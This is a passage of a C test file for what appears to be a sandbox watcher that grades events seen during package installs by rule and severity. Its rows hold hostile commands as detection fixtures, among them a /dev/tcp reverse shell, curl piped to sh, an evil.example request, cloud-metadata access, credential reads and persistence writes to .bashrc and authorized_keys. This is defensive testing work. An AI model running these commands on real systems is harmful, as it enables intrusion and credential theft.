/*
 * src/verdict/watch*.c: what a watch saw, and what is thought of it. Each row is a watch of its
 * own: its facts, and the rule and severity that the last of them gets ("" for none).
 */
#include "fact/watch.h"
#include "test.h"
#include "verdict/verdict.h"

static const struct policy watching = { .name = "watch", .in_force = POLICY_BIT(WATCH) };

/* A watch, and what has been said of it. */
struct court {
    struct arena arena;
    struct facts facts;
    const struct where *where;
    struct judged judged;
};

static void court_open(struct court *c)
{
    *c = (struct court){ 0 };
    arena_init(&c->arena, (size_t)16 << 20);
    facts_init(&c->facts, &c->arena);
    c->where = facts_where(&c->facts, NULL, SPAN_LITERAL("some-1.0-py3-none-any.whl"));
}

static void court_close(struct court *c)
{
    facts_free(&c->facts);
    arena_reset(&c->arena);
}

static void court_judge(struct court *c)
{
    CHECK(verdict_judge(&c->judged, &c->arena, &c->facts, &watching) == PRATIQUE_OK, "judged");
}

static struct fact fact_of(const struct court *c, enum fact_kind kind, unsigned flags,
                           const char *subject, const char *detail, uint64_t number)
{
    return (struct fact){ .kind = kind,
                          .flags = flags,
                          .where = c->where,
                          .offset = PRATIQUE_NO_OFFSET,
                          .number = number,
                          .subject = span_text(subject),
                          .detail = span_text(detail) };
}

static void add(struct court *c, enum fact_kind kind, unsigned flags, const char *subject,
                const char *detail, uint64_t number)
{
    struct fact f = fact_of(c, kind, flags, subject, detail, number);

    facts_add(&c->facts, &f);
}

static void add_read(struct court *c)
{
    add(c, FACT_READ, 0, "wheel", "", 0);
}

/* One fact, or several before the one that is judged: those of a row without want. */
struct row {
    enum fact_kind kind;
    unsigned flags;
    const char *subject, *detail;
    uint64_t number;
    const char *want; /* "WCH010 high"; "" for nothing; NULL: more of this watch follows */
};

/* "WCH010 high" */
static void name_of(char out[32], const struct pratique_finding *f)
{
    snprintf(out, 32, "%s %s", f->rule->id, pratique_severity_name(f->severity));
}

/* The finding of a subject that is wanted, else the first of that subject. */
static const struct pratique_finding *finding_of(const struct court *c, const struct row *row)
{
    const struct pratique_finding *first = NULL;
    char name[32];

    for (size_t i = c->judged.n; i-- > 0;) {
        const struct pratique_finding *f = &c->judged.findings[i];

        if (strcmp(f->subject, row->subject) != 0)
            continue;
        name_of(name, f);
        if (strcmp(name, row->want) == 0)
            return f;
        first = f;
    }
    return first;
}

/* The rules that rows have fired, by their index. */
static bool fired[1024];

static void check_row(struct court *c, const struct row *row, size_t i)
{
    const struct pratique_finding *f;
    char got[32] = "";

    add_read(c);
    court_judge(c);
    f = finding_of(c, row);
    if (f)
        name_of(got, f);
    if (f && strcmp(got, row->want) == 0)
        fired[rule_index(f->rule)] = true;
    CHECK(strcmp(got, row->want) == 0, "row %zu, %s %#x %s %s: \"%s\", not \"%s\"", i,
          fact_kind_name(row->kind), row->flags, row->subject, row->detail, got, row->want);
    CHECK(!f || c->judged.verdict != PRATIQUE_UNDECIDED || f->severity == PRATIQUE_GAP,
          "row %zu is judged", i);
}

static void check_rows(const struct row *rows, size_t n)
{
    struct court c;
    bool open = false;

    for (size_t i = 0; i < n; i++) {
        if (!open)
            court_open(&c);
        open = !rows[i].want;
        add(&c, rows[i].kind, rows[i].flags, rows[i].subject, rows[i].detail, rows[i].number);
        if (rows[i].want) {
            check_row(&c, &rows[i], i);
            court_close(&c);
        }
    }
}

#define CHECK_ROWS(rows) check_rows(rows, sizeof(rows) / sizeof *(rows))
#define W(kind)          FACT_WATCH_##kind

#define HOME "/home/alex/"
#define SITE "/opt/venv/lib/python3.11/site-packages/"
#define BIN  "/opt/venv/bin/"

static const struct row proofs[] = {
    { W(CANARY), 0, "script", "/usr/bin/dash", 0, "WCH001 critical" },
    { W(CANARY), EVENT_SUBMODULE, "native", "", 0, "WCH001 high" },
    { W(EXEC), EXEC_CANARY | EXEC_WRITTEN, "/tmp/x", "", 0, "WCH001 critical" },
    { W(LOAD), EXEC_CANARY, "/tmp/x.so", "", 0, "WCH001 critical" },
    { W(HONEY_SENT), 0, "$GITHUB_TOKEN", "hex in a name", 0, "WCH002 critical" },
    { W(HONEY_SENT), EVENT_SUBMODULE, "$GITHUB_TOKEN", "", 0, "WCH002 high" },
    { W(HONEY_READ), 0, "~/.aws/credentials", "", 0, "WCH003 high" },
    { W(HONEY_READ), EVENT_SUBMODULE, "~/.aws/credentials", "", 0, "WCH003 medium" },
    { W(HONEY_READ), 0, "~/project/.env", "", 0, "WCH003 medium" },
    { W(HONEY_READ), 0, "$AWS_ACCESS_KEY_ID", "", 0, "" },
};

static const struct row networks[] = {
    { W(CONNECT), 0, "tcp 192.0.2.1:443", "example.org", 0, "WCH010 high" },
    { W(CONNECT), EVENT_SUBMODULE, "tcp 192.0.2.1:443", "example.org", 0, "WCH010 medium" },
    { W(CONNECT), 0, "tcp [2001:db8::1]:80", "", 0, "WCH010 high" },
    { W(CONNECT), NET_LOOPBACK, "tcp 127.0.0.1:8126", "", 0, "WCH018 low" },
    { W(CONNECT), NET_LOOPBACK, "tcp 127.0.0.1:2375", "", 0, "WCH018 medium" },
    { W(CONNECT), NET_UNSPECIFIED, "tcp 0.0.0.0:80", "", 0, "WCH018 low" },
    { W(CONNECT), NET_DNS, "udp 10.255.255.53:53", "", 0, "" },
    { W(CONNECT), 0, "tcp 169.254.169.254:80", "", 0, "WCH015 critical" },
    { W(CONNECT), NET_NONE, "udp 169.254.169.254:80", "", 0, "WCH015 critical" },
    { W(CONNECT), 0, "tcp [::ffff:169.254.169.254]:80", "", 0, "WCH015 critical" },
    { W(CONNECT), 0, "tcp 169.254.169.25:80", "", 0, "WCH010 high" },
    { W(CONNECT), NET_NONE, "udp 8.8.8.8:80", "", 0, "WCH019 medium" },
    { W(CONNECT), NET_NONE, "none", "", 0, "" },
    { W(CONNECT), NET_NONE | NET_LOOPBACK, "udp 127.0.0.1:8125", "", 0, "" },
    { W(CONNECT), NET_UNIX, "unix /var/run/nscd/socket", "", 0, "WCH018 info" },
    { W(CONNECT), NET_UNIX, "unix /run/docker.sock", "", 0, "WCH017 high" },
    { W(CONNECT), NET_UNIX, "unix /tmp/ssh-XXXXabcd/agent.123", "", 0, "WCH017 high" },
    { W(CONNECT), NET_UNIX, "unix /run/user/1000/bus", "", 0, "WCH017 high" },
    { W(CONNECT), NET_UNIX, "unix @/tmp/.X11-unix/X0", "", 0, "WCH018 low" },
    { W(CONNECT), NET_UNIX, "unix /run/some.sock", "", 0, "WCH017 medium" },
    { W(BIND), NET_UNIX, "unix /tmp/own.sock", "", 0, NULL },
    { W(CONNECT), NET_UNIX, "unix /tmp/own.sock", "", 0, "WCH018 info" },
    { W(SEND), 0, "udp 192.0.2.1:9", "", 12, "WCH011 high" },
    { W(SEND), NET_LOOPBACK, "udp 127.0.0.1:8125", "", 12, "WCH018 low" },
    { W(SEND), NET_DNS, "udp 10.255.255.53:53", "", 12, "" },
    { W(SENT), 0, "tcp 192.0.2.1:25", "HELO", 12, "WCH011 high" },
    { W(SENT), NET_LOOPBACK, "tcp 127.0.0.1:25", "HELO", 12, "WCH018 low" },
    { W(ACCEPTED), 0, "tcp 192.0.2.1:25", "", 0, "WCH010 high" },
    { W(ACCEPTED), NET_LOOPBACK, "tcp 127.0.0.1:8126", "", 0, "WCH018 low" },
    { W(BIND), NET_LOOPBACK, "tcp [::1]:0", "", 0, "WCH018 info" },
    { W(BIND), NET_LOOPBACK, "tcp 127.0.0.1:8000", "", 0, "WCH018 low" },
    { W(BIND), NET_UNSPECIFIED, "tcp 0.0.0.0:4444", "", 0, "WCH016 high" },
    { W(BIND), NET_UNSPECIFIED, "udp 0.0.0.0:0", "", 0, "WCH016 low" },
    { W(BIND), 0, "netlink 0", "", 0, "WCH018 info" },
    { W(LISTEN), NET_UNSPECIFIED, "tcp 0.0.0.0:4444", "", 0, "WCH016 high" },
    { W(LISTEN), NET_LOOPBACK, "tcp 127.0.0.1:4444", "", 0, "WCH018 low" },
    { W(LISTEN), NET_UNIX, "unix @x", "", 0, "WCH018 info" },
    { W(SOCKET), 0, "packet raw", "", 0, "WCH020 high" },
    { W(SOCKET), 0, "inet raw", "", 0, "WCH020 high" },
    { W(SOCKET), 0, "netlink 0", "", 0, "WCH020 info" },
    { W(SOCKET), 0, "netlink 15", "", 0, "WCH020 low" },
    { W(SOCKET), 0, "netlink 9", "", 0, "WCH020 medium" },
    { W(SOCKET), 0, "vsock stream", "", 0, "WCH020 medium" },
    { W(LOOKUP), 0, "example.org", "A", 29, "WCH012 high" },
    { W(LOOKUP), 0, "localhost", "A", 29, "WCH012 info" },
    { W(LOOKUP), 0, "1.1.0.127.in-addr.arpa", "PTR", 29, "WCH012 info" },
    { W(LOOKUP), 0, "8.8.8.8.in-addr.arpa", "PTR", 29, "WCH012 high" },
    { W(LOOKUP), 0, "notlocalhost", "A", 29, "WCH012 high" },
    { W(LOOKUP), 0, "6d794141414141414141414141414141414141414141.x.org", "TXT", 70,
      "WCH014 critical" },
    { W(LOOKUP), 0, "a.b.c.d.e.f.g.h.org", "A", 70, "WCH014 critical" },
    { W(LOOKUP), 0, "files.pythonhosted.org", "A", 70, "WCH012 high" },
    { W(LOOKUP), 0, "metadata.google.internal", "A", 70, "WCH015 critical" },
    { W(REQUEST), REQUEST_TLS, "https://example.org/x", "POST application/json", 512,
      "WCH013 high" },
    { W(REQUEST), 0, "http://127.0.0.1:8126/info", "GET", 90, "WCH018 low" },
    { W(REQUEST), 0, "http://[::1]:8126/info", "GET", 90, "WCH018 low" },
    { W(REQUEST), 0, "http://127.0.0.1@evil.example/info", "GET", 90, "WCH013 high" },
    { W(REQUEST), 0, "http://169.254.169.254/latest/meta-data/", "GET", 90, "WCH015 critical" },
    { W(ANSWER), 0, "https://example.org/x", "script", 90, "" },
};

#define PY "/usr/bin/python3.11"

static const struct row programs[] = {
    /* what only asks */
    { W(EXEC), PATH_SYSTEM, "/usr/bin/uname", "uname -p", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/uname", "-p", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/sbin/ldconfig", "/sbin/ldconfig -p", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/sbin/ldconfig", "/sbin/ldconfig -C /tmp/x", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-gcc-12",
      "/usr/bin/gcc -Wl,-t -o /tmp/tmp2a_n2z1y -llibfontconfig-1", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/x86_64-linux-gnu-gcc-12",
      "/usr/bin/gcc -Wl,-t -o /tmp/tmp2a_n2z1y -llibfontconfig-1", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-gcc-12", "gcc -shared -o /tmp/x.so /tmp/x.c",
      0, "WCH043 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
      "/usr/lib/gcc/x86_64-linux-gnu/12/collect2 -plugin x -o /tmp/x", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-ld.bfd", "ld -t -o /dev/null -lportaudio", 0,
      "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/fc-list", "fc-list '--format=%{file}\\n'", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/file", "file -b " PY, 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git version", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git -C /home/alex/project rev-parse HEAD", 0,
      "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git commit -m x", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git -c core.pager=x log", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git clone https://example.org/x", 0, "WCH031 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/git", "git credential fill", 0, "WCH035 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/ffmpeg", "ffmpeg -version", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/ffmpeg", "ffmpeg -i x", 0, "WCH039 medium" },
    { W(EXEC), PATH_TMP, "/tmp/ffmpeg", "ffmpeg -version", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /proc/cpuinfo", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /proc/1/environ", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /home/alex/.bash_history", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat .env", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/ls", "ls -la", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/ls", "ls /sys/class", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/grep", "grep -r flags", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/grep", "grep -r key /home", 0, "WCH039 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/find", "find . -name id_rsa", 0, "WCH036 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/sbin/sysctl", "sysctl -n kernel.osrelease", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/sbin/sysctl", "sysctl -n kernel.x=1", 0, "WCH039 medium" },
    /* Python */
    { W(EXEC), EXEC_SELF, PY,
      BIN "python -B -c 'from multiprocessing.resource_tracker import main;main(5)'", 0,
      "WCH040 info" },
    { W(EXEC), EXEC_SELF, PY,
      "python -c 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, "
      "pipe_handle=7)' --multiprocessing-fork",
      0, "WCH040 info" },
    { W(EXEC), EXEC_SELF, PY,
      "python -c 'from multiprocessing.spawn import spawn_main; spawn_main(__import__(1))'", 0,
      "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY,
      "python -c 'from multiprocessing.spawn import spawn_main; spawn_main(1)\\nimport os'", 0,
      "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY, "python -c 'import base64'", 0, "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY, "python -m platform", 0, "WCH040 info" },
    { W(EXEC), EXEC_SELF, PY, "python -B -s -m platform", 0, "WCH040 info" },
    { W(EXEC), EXEC_SELF, PY, "python -m http.server", 0, "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY, "python -m", 0, "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY, "python -m pip install x", 0, "WCH033 high" },
    { W(EXEC), EXEC_SELF, PY, "python -m pip --version", 0, "WCH040 info" },
    { W(EXEC), EXEC_SELF | EXEC_ARG_WRITTEN, PY, "python /tmp/x.pyz", 0, "WCH032 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/perl", "perl -e 1", 0, "WCH041 medium" },
    /* shells */
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p 2>/dev/null'", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash",
      "/bin/sh -c \"LC_ALL=C /sbin/ldconfig -p 2>/dev/null\"", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'cat /proc/cpuinfo | grep flags'", 0,
      "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p $(touch x)'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p; frobnicate'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p > x'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'curl -s http://x.example | sh'", 0,
      "WCH031 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'true && crontab -'", 0, "WCH034 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'echo curl'", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1'", 0,
      "WCH031 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -i", 0, "WCH030 high" },
    { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/bash", "bash /tmp/x", 0, "WCH032 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p' 'x'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p; sh x'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p; . ./x'", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -V", 0, "WCH030 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash --version", 0, "WCH040 info" },
    { W(EXEC), EXEC_SELF, PY, "python -v", 0, "WCH041 low" },
    { W(EXEC), EXEC_SELF, PY, "python -V", 0, "WCH040 info" },
    { W(EXEC), EXEC_SELF | PATH_SITE, BIN "python3", "python3 -V", 0, "WCH040 info" },
    { W(EXEC), PATH_HOME, HOME ".x/python3", "python3 -V", 0, "WCH041 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/env", "env -0", 0, "WCH036 medium" },
    /* by what they are for */
    { W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl -k -L -s https://x.example/y", 0,
      "WCH031 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl --version", 0, "WCH040 info" },
    { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl -k https://x.example/y", 0, "WCH031 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/npm", "npm install x", 0, "WCH033 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/conda", "conda info --json", 0, "WCH036 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/crontab", "crontab -", 0, "WCH034 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/gpg", "gpg --list-secret-keys", 0, "WCH035 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/whoami", "whoami", 0, "WCH036 medium" },
    { W(EXEC), EXEC_MISSING, "/usr/bin/ifconfig", "ifconfig", 0, "WCH036 low" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/env", "env", 0, "WCH036 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/env", "env python3 x", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/rm", "rm -rf /home/alex", 0, "WCH037 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/rm", "rm /tmp/x", 0, "WCH037 medium" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/sudo", "sudo -n true", 0, "WCH038 high" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/sudo", "sudo --version", 0, "WCH040 info" },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/frobnicate", "frobnicate now", 0, "WCH039 medium" },
    { W(EXEC), EXEC_MISSING, "/usr/bin/frobnicate", "frobnicate now", 0, "WCH039 low" },
    { W(EXEC), PATH_SITE, SITE "some/bin/tool", "tool --serve", 0, "WCH042 medium" },
    { W(EXEC), PATH_SITE, SITE "some/bin/tool", "tool --version", 0, "WCH042 low" },
    { W(EXEC), PATH_SITE, SITE "some/bin/as", "as x", 0, "WCH042 medium" },
    { W(EXEC), PATH_SITE, SITE "some/bin/git", "git log", 0, "WCH042 medium" },
    { W(EXEC), PATH_SITE, SITE "some/bin/curl", "curl x", 0, "WCH031 high" },
    { W(EXEC), PATH_HOME, HOME "x/uname", "uname -p", 0, "WCH039 medium" },
    { W(EXEC), PATH_TMP | EXEC_WRITTEN, "/tmp/x", "", 0, "WCH032 high" },
    { W(EXEC), EXEC_MEMFD, "/memfd:x", "", 0, "WCH032 high" },
    { W(OPEN), PATH_HOME, HOME ".cache/x/y", "O_WRONLY|O_CREAT", 0, NULL },
    { W(EXEC), PATH_HOME, HOME ".cache/x/y", "y", 0, "WCH032 high" },
    /* a program that is looked for on PATH */
    { W(EXEC), EXEC_MISSING, BIN "uname", "uname -p", 0, NULL },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/uname", "uname -p", 0, "WCH040 info" },
    { W(EXEC), EXEC_MISSING | PATH_SITE, BIN "fc-list", "fc-list", 0, "WCH040 info" },
    { W(EXEC), EXEC_MISSING, "/usr/local/bin/curl", "curl x", 0, NULL },
    { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl x", 0, "" },
    { W(EXEC), 0, "/usr/bin/curl", "curl x", 0, NULL },
    { W(EXEC), EXEC_MISSING, "/usr/local/bin/curl", "curl x", 0, "" },
    /* in a command */
    { W(DONE), 0, "command", "", 0, NULL },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/make", "make all", 0, "WCH043 low" },
    { W(DONE), 0, "command", "", 0, NULL },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'cc -c x.c'", 0, "WCH043 low" },
    { W(DONE), 0, "command", "", 0, NULL },
    { W(EXEC), PATH_HOME | EXEC_WRITTEN, HOME "project/conftest", "", 0, "WCH043 low" },
    { W(DONE), 0, "command", "", 0, NULL },
    { W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl x", 0, "WCH031 high" },
};

static const struct row processes[] = {
    { W(OUTLIVES), OUTLIVES_SESSION, PY, "python /tmp/transformers.pyz", 0, "WCH044 high" },
    { W(OUTLIVES), 0, PY, "python x.py", 0, "WCH044 medium" },
    { W(OUTLIVES), 0, PY, "python -c 'from multiprocessing.resource_tracker import main;main(5)'",
      0, "WCH044 info" },
    { W(SETSID), 0, "", "", 0, "WCH045 info" },
    { W(KILL), 0, "", "123", 9, "WCH046 medium" },
    { W(KILL), 0, "", "123", 0, "WCH046 info" },
    { W(KILL), 0, "", "-1", 9, "WCH046 high" },
    { W(PTRACE), 0, "process_vm_readv", "", 1, "WCH047 high" },
    { W(MOUNT), 0, "unshare", "", 0, "WCH048 high" },
    { W(PRIVILEGED), 0, "bpf", "", 0, "WCH049 high" },
    { W(ROUND), 0, "x32", "", 0, "WCH050 high" },
    { W(ROUND), 0, "io_uring_setup", "", 0, "WCH050 medium" },
    { W(HIDDEN), 0, "connect", "", 0, "WCH051 medium" },
    { W(UNHOOKED), 0, PY, "", 0, "WCH052 medium" },
    { W(SLEEP), 0, "", "", 3600000, "WCH053 medium" },
    { W(SLEEP), 0, "", "", 5000, "WCH053 info" },
    { W(SLEEP), EVENT_SUBMODULE, "", "", 3600000, "WCH053 low" },
    { W(LIMIT), 0, "processes", "128", 0, "WCH054 high" },
    { W(LIMIT), 0, "memory", "8 GiB", 0, "WCH054 medium" },
    { W(LIMIT), 0, "time", "300 s", 0, "WCH057 gap" },
    { W(HUNG), 0, "some", "", 0, "WCH055 medium" },
    { W(CRASHED), 0, "some", "", 11, "WCH056 medium" },
    { W(CRASHED), 0, "some", "", 1 << 8, "WCH056 medium" },
    { W(CRASHED), 0, "", "", 0, "WCH080 gap" },
    { W(MEMFD), 0, "OTEL_CTX", "", 0, "WCH058 low" },
    { W(START), 0, "python", "", 0, "" },
    { W(END), 0, "", "", 0, "" },
    { W(OUTPUT), 0, "stdout", "hello", 5, "" },
};

static const struct row files[] = {
    /* where code starts by itself */
    { W(LEFT), PATH_HOME | LEFT_CHANGED | PATH_BAIT, HOME ".bashrc", "curl", 9, "WCH060 critical" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".config/autostart/x.desktop", "", 9, "WCH060 critical" },
    { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_FOLDER, HOME ".config/autostart/x", "", 9,
      "WCH060 medium" },
    { W(LEFT), PATH_HOME | LEFT_NEW, "/root/.ssh/authorized_keys", "", 9, "WCH060 critical" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME "project/.git/hooks/pre-commit", "", 9,
      "WCH060 critical" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".local/bin/ls", "", 9, "WCH060 critical" },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "zzz.pth", "import os", 9, "WCH060 critical" },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "sitecustomize.py", "import os", 9, "WCH060 critical" },
    { W(LEFT), PATH_SITE | LEFT_CHANGED, BIN "python", "", 9, "WCH060 critical" },
    { W(OPEN), PATH_HOME, HOME ".bashrc", "O_WRONLY|O_APPEND", 0, "WCH060 high" },
    { W(OPEN), PATH_SYSTEM | EVENT_DENIED, "/etc/cron.d/x", "O_WRONLY|O_CREAT", 0, "WCH060 high" },
    { W(RENAME), PATH_HOME, HOME ".profile", HOME ".x", 0, "WCH060 high" },
    { W(LEFT), PATH_HOME | LEFT_CHANGED, HOME ".bashrc", "", 9, NULL },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".config/matplotlib", "", 9, "WCH065 medium" },
    /* other packages */
    { W(IMPORT), 0, "some.client", "", 0, NULL },
    { W(LEFT), PATH_SITE | LEFT_CHANGED, SITE "requests/api.py", "", 9, "WCH061 high" },
    { W(IMPORT), 0, "some.client", "", 0, NULL },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some/hash_seed.txt", "", 9, "WCH066 low" },
    { W(IMPORT), 0, "some.client", "", 0, NULL },
    { W(LEFT), PATH_SITE | LEFT_CHANGED, SITE "some/client.py", "", 9, "WCH061 medium" },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.txt", "", 9, "WCH061 medium" },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some/__pycache__/x.cpython-311.pyc", "", 9,
      "WCH066 info" },
    { W(LEFT), PATH_SITE | LEFT_CHANGED, SITE "some/__pycache__/x.cpython-311.pyc", "", 9,
      "WCH061 medium" },
    { W(RENAME), PATH_SITE, SITE "a/__pycache__/x.pyc", SITE "a/__pycache__/x.pyc.1", 0, NULL },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "a/__pycache__/x.pyc", "", 9, "WCH066 info" },
    { W(OPEN), PATH_SITE, SITE "a/__pycache__/x.pyc", "O_WRONLY", 0, NULL },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "a/__pycache__/x.pyc", "", 9, "WCH061 medium" },
    { W(LEFT), PATH_SITE | LEFT_NEW | LEFT_EXECUTABLE, SITE "a/__pycache__/x.pyc", "\\x7fELF", 9,
      "WCH061 high" },
    { W(LEFT), PATH_SITE | LEFT_NEW | LEFT_FOLDER, SITE "a/__pycache__", "", 9, "WCH066 info" },
    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "other.py", "", 9, "WCH061 high" },
    { W(OPEN), PATH_SITE, SITE "requests/api.py", "O_WRONLY", 0, "WCH061 high" },
    { W(OPEN), PATH_SITE, SITE "some/__pycache__/x.cpython-311.pyc.139", "O_WRONLY", 0,
      "WCH068 info" },
    /* what was there */
    { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_CHANGED, HOME "Documents/report.odt", "", 9,
      "WCH062 high" },
    { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_GONE, HOME ".bash_history", "", 9, "WCH062 high" },
    { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_CHANGED | LEFT_FOLDER, HOME ".config", "", 9, "" },
    { W(UNLINK), PATH_HOME | PATH_BAIT, HOME ".bash_history", "", 0, "WCH062 high" },
    { W(LEFT), PATH_HOME | LEFT_GONE, HOME ".ssh/id_ed25519", "", 9, "WCH062 high" },
    /* programs, fetched content, data */
    { W(LEFT), PATH_TMP | LEFT_NEW | LEFT_EXECUTABLE, "/tmp/x", "\\x7fELF", 9, "WCH063 high" },
    { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME ".cache/x/y.so", "\\x7fELF", 9,
      "WCH063 medium" },
    { W(EXEC), PATH_HOME | EXEC_WRITTEN, HOME ".cache/x/y", "", 0, NULL },
    { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME ".cache/x/y", "", 9, "WCH063 high" },
    { W(CHMOD), PATH_TMP, "/tmp/x", "", 04755, "WCH063 high" },
    { W(CHMOD), PATH_TMP, "/tmp/x", "", 0755, "WCH068 info" },
    { W(LEFT), PATH_TMP | LEFT_NEW | LEFT_CANARY, "/tmp/transformers.pyz", "PK", 9, "WCH064 high" },
    { W(LEFT), PATH_TMP | LEFT_NEW, "/tmp/26720-symdb-pids", "1", 9, "WCH065 medium" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME "notes.txt", "1", 9, "WCH065 medium" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME "project/out.log", "1", 9, "WCH065 medium" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".x", "1", 9, "WCH065 medium" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".cache/x/y", "", (uint64_t)2 << 30, "WCH065 high" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".cache/matplotlib/fontlist-v3.json", "{", 9,
      "WCH066 low" },
    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".config/mlflow/telemetry.json", "{", 9, "WCH066 low" },
